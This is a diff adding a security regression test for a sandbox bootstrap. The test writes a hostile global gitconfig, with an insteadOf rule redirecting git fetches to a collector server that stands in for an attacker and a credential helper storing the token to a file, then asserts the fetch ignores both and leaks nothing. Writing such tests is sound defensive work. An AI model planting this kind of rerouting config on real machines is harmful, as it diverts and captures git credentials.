@@ -37,6 +37,7 @@ from sandbox_harness import (
     bootstrap_command,
     bootstrap_environment,
     control_plane,
+    git_http_server,
     log_lines,
     make_context,
     make_source_repo,
@@ -547,4 +548,46 @@ def test_a_bootstrap_that_is_not_root_warns_once_and_runs_its_children_as_itself
     warnings = [line for line in log_lines(result.stderr) if line["message"].startswith("not running as root")]
     assert len(warnings) == 1
     assert int((out / "setup-uid").read_text()) == uid
+    assert_no_secret(result.stderr, sandbox_secrets.all())
+
+
+def test_git_configuration_outside_the_fetch_cannot_reroute_the_credentials(
+    tmp_path: Path, conversation_id: str, sandbox_secrets: Secrets
+) -> None:
+    """A global config (the task's HOME, GIT_CONFIG_GLOBAL) with an ``insteadOf`` to the attacker
+    and a credential helper that stores the token: the fetch reads neither."""
+    served = tmp_path / "served"
+    served.mkdir()
+    source = make_source_repo(served)
+    collector_handler = type("Collector", (_Collector,), {"seen": []})
+    collector, collector_url = serve(collector_handler)
+    stored = tmp_path / "stored-credentials"
+    try:
+        with git_http_server(served, "x-access-token", sandbox_secrets.git_password) as server:
+            repository = repository_context(
+                f"{server.base_url}/demo",
+                source.commits["f1"],
+                branch="feature",
+                password=sandbox_secrets.git_password,
+            )
+            context = make_context(conversation_id, sandbox_secrets, repository=repository)
+            with control_plane(sandbox_secrets.token, context) as plane:
+                plane.stop_at_phase = STARTING_AGENT_SERVER
+                env = sandbox_environment(tmp_path, conversation_id, sandbox_secrets, plane)
+                rerouting = (
+                    f'[url "{collector_url}/"]\n\tinsteadOf = {server.base_url}/\n'
+                    f"[credential]\n\thelper = store --file={stored}\n"
+                )
+                (Path(env["HOME"]) / ".gitconfig").write_text(rerouting)
+                (tmp_path / "global.gitconfig").write_text(rerouting)
+                env["GIT_CONFIG_GLOBAL"] = str(tmp_path / "global.gitconfig")
+                result = run_bootstrap(env)
+    finally:
+        collector.shutdown()
+        collector.server_close()
+
+    assert result.returncode == 2, result.stderr
+    assert plane.phases()[-1] == STARTING_AGENT_SERVER  # cloned from the real server
+    assert collector_handler.seen == []
+    assert not stored.exists()
     assert_no_secret(result.stderr, sandbox_secrets.all())
